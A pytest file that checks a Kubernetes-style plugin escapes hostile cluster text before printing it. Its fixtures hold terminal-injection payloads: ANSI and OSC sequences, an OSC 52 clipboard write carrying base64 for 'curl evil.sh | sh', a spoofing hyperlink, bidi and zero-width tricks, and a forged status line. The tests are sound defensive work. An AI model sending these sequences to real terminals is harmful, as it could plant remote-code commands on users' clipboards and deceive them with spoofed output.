"""Hostile text from the cluster (annotations, reasons, names) reaches the terminal only as visible escapes."""

from __future__ import annotations

import contextlib
import io
import json
import unicodedata

import pytest
from modelship.plugin import main
from modelship.plugin.escape import CLEAR, escape, safe_output
from plugin_fixtures import FakeApi, mdep

HOSTILE = {
    "ansi colour / cursor": "\x1b[31mred\x1b[0m\x1b[2J",
    "osc 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "osc 8 hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "c1 csi": "\x9b31m",
    "bell and backspace": "ok\x08\x08\x07",
    "carriage return overwrite": "safe\rEVIL",
    "bidi override": "user\u202egnp.exe",
    "bidi isolate": "\u2066admin\u2069",
    "zero width": "ad\u200bmin",
    "line separator": "a\u2028b",
    "newline forging a line": "fine\nPhase:       Healthy",
}


def shows_nothing_raw(text: str) -> bool:
    return not any(unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"} and c != "\n" for c in text)


@pytest.mark.parametrize("hostile", list(HOSTILE.values()), ids=list(HOSTILE))
def test_escape_makes_every_control_and_format_character_visible(hostile: str) -> None:
    shown = escape(hostile)
    assert shows_nothing_raw(shown) and "\n" not in shown
    assert escape(shown) == shown  # idempotent: escaping twice changes nothing


def test_plain_text_and_unicode_letters_pass_unchanged() -> None:
    for text in ("fraud-scorer v7 (9ab12e)", "modèle façade 模型", "p99 <= 250ms"):
        assert escape(text) == text


def test_output_guard_keeps_our_line_breaks_and_frame_clear_only() -> None:
    lines: list[str] = []
    write = safe_output(lines.append)
    write(CLEAR + "frame\n\x1b[2Jhostile")
    write("middle \x1b[2J clear")
    assert lines == [CLEAR + "frame\n\\x1b[2Jhostile", "middle \\x1b[2J clear"]


def run(api: FakeApi, *argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main.main(list(argv), api_factory=lambda _args: api)
    return code, out.getvalue(), err.getvalue()


@pytest.mark.parametrize("command", [["status", "fraud-scorer"], ["history", "fraud-scorer"], ["get"]])
def test_views_print_hostile_cluster_text_escaped(command: list[str]) -> None:
    obj = mdep(message=HOSTILE["osc 52 clipboard"], history=[{
        "revision": "9ab12e", "version": "7\x1b[8m", "event": "Approved", "by": HOSTILE["bidi override"],
        "reason": HOSTILE["newline forging a line"], "time": "2024-05-01T10:00:00Z"}])
    obj["metadata"]["annotations"]["modelship.dev/request"] = json.dumps(
        {"id": "x", "action": "pause", "at": HOSTILE["ansi colour / cursor"]})
    obj["metadata"]["annotations"]["modelship.dev/requested-by"] = HOSTILE["osc 8 hyperlink"]
    obj["spec"]["model"]["name"] = HOSTILE["c1 csi"]
    code, out, err = run(FakeApi(obj), *command, "-n", "ml")
    assert code == 0 and err == ""
    assert shows_nothing_raw(out)
    assert "Phase:       Healthy" not in out.replace("\\n", "\n").splitlines()


def test_errors_from_the_cluster_are_escaped_too() -> None:
    code, out, err = run(FakeApi(), "status", "evil\x1b]52;c;eA==\x07", "-n", "ml")
    assert code == 1 and shows_nothing_raw(err) and "\\x1b]52" in err
    assert shows_nothing_raw(out)
